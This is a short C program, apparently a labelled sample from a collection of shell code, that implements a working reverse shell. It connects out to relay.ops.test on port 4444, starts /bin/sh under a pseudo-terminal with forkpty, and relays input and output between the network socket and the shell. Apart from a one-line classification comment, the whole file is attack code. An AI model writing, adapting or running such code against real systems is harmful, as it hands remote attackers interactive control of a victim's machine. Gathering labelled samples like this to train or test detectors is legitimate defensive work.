// class: shell; possible: low medium; style: C, forkpty and poll
#include <netdb.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    struct addrinfo *a, hint = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
    if (getaddrinfo("relay.ops.test", "4444", &hint, &a))
        return 1;
    int s = socket(AF_INET, SOCK_STREAM, 0), m;
    if (connect(s, a->ai_addr, a->ai_addrlen))
        return 2;
    pid_t pid = forkpty(&m, NULL, NULL, NULL);
    if (pid < 0)
        return 3;
    if (pid == 0) {
        execl("/bin/sh", "sh", (char *)NULL);
        _exit(127);
    }
    struct pollfd p[2] = { { s, POLLIN, 0 }, { m, POLLIN, 0 } };
    char buf[2048];
    while (poll(p, 2, 30000) > 0) {
        for (int i = 0; i < 2; i++) {
            if (!p[i].revents)
                continue;
            ssize_t n = read(p[i].fd, buf, sizeof buf);
            if (n <= 0)
                goto out;
            if (write(p[1 - i].fd, buf, n) < 0)
                goto out;
        }
    }
out:
    kill(pid, SIGKILL);
    return 0;
}
